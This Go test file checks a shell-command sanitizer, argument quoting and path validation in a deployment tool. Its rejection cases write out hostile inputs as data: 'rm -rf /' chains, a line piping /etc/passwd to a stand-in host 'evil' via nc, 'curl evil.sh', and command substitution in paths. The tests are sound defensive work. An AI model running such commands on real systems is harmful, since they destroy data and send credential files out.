package shellsafe

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sorenmh/infrastructure-shared/fleet-orchestrator/models"
)

func TestSanitizeCommandRejects(t *testing.T) {
	tests := []struct {
		name  string
		input string
	}{
		{"semicolon", "git pull; rm -rf /"},
		{"pipe", "cat /etc/passwd | nc evil 9999"},
		{"and chain", "true && rm -rf /"},
		{"or chain", "false || curl evil.sh"},
		{"backtick", "echo `whoami`"},
		{"dollar paren", "echo $(whoami)"},
		{"newline", "git pull\nrm -rf /"},
		{"carriage return", "git pull\rrm -rf /"},
		{"nul byte", "git pull\x00rm"},
		{"empty", ""},
		{"whitespace only", "   "},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := SanitizeCommand(tt.input)
			require.Error(t, err)

			var cve *models.CommandValidationError
			assert.ErrorAs(t, err, &cve)
		})
	}
}

func TestSanitizeCommandAccepts(t *testing.T) {
	tests := []string{
		"git pull",
		"git checkout main",
		"./deploy.sh",
		"bash deploy/run.sh production",
		"docker ps --format {{.Names}}",
		"systemctl status nginx",
		"C:/deploy/run.bat",
	}

	for _, input := range tests {
		t.Run(input, func(t *testing.T) {
			out, err := SanitizeCommand(input)
			require.NoError(t, err)
			assert.Equal(t, input, out)
		})
	}
}

func TestSanitizeCommandTrims(t *testing.T) {
	out, err := SanitizeCommand("  git pull  ")
	require.NoError(t, err)
	assert.Equal(t, "git pull", out)
}

func TestSanitizeArg(t *testing.T) {
	_, err := SanitizeArg("my branch")
	assert.Error(t, err)

	_, err = SanitizeArg("feature/login;x")
	assert.Error(t, err)

	out, err := SanitizeArg("feature/login")
	require.NoError(t, err)
	assert.Equal(t, "feature/login", out)
}

// evalSingleQuoted reverses POSIX single-quote framing the way a shell
// tokenizer would, so the quoting round-trip law can be checked.
func evalSingleQuoted(t *testing.T, quoted string) string {
	t.Helper()

	var out strings.Builder
	rest := quoted
	for len(rest) > 0 {
		require.True(t, strings.HasPrefix(rest, "'"), "expected opening quote in %q", rest)
		rest = rest[1:]
		end := strings.Index(rest, "'")
		require.GreaterOrEqual(t, end, 0, "unterminated quote in %q", quoted)
		out.WriteString(rest[:end])
		rest = rest[end+1:]
		// an escaped single quote appears as "'" between segments
		if strings.HasPrefix(rest, `"'"`) {
			out.WriteByte('\'')
			rest = rest[3:]
		}
	}
	return out.String()
}

func TestQuoteArgRoundTrip(t *testing.T) {
	tests := []string{
		"it's a test",
		"plain",
		"with space",
		"a'b'c",
		"';&|`$(",
		"''",
		"trailing'",
		"'leading",
	}

	for i, value := range tests {
		t.Run(fmt.Sprintf("case_%d", i), func(t *testing.T) {
			quoted := QuoteArg(value)
			assert.Equal(t, value, evalSingleQuoted(t, quoted))
		})
	}
}

func TestQuoteArgLiteral(t *testing.T) {
	assert.Equal(t, `'it'"'"'s a test'`, QuoteArg("it's a test"))
}

func TestValidPath(t *testing.T) {
	assert.NoError(t, ValidPath("/opt/deploy/app"))
	assert.NoError(t, ValidPath("C:/Users/deploy/app"))
	assert.NoError(t, ValidPath("relative/path-1.2_3"))

	assert.Error(t, ValidPath("/opt/../etc"))
	assert.Error(t, ValidPath("/opt/deploy; rm -rf /"))
	assert.Error(t, ValidPath("/opt/$(whoami)"))
	assert.Error(t, ValidPath("/opt/`id`"))
	assert.Error(t, ValidPath("/opt/deploy app"))
	assert.Error(t, ValidPath(""))
}
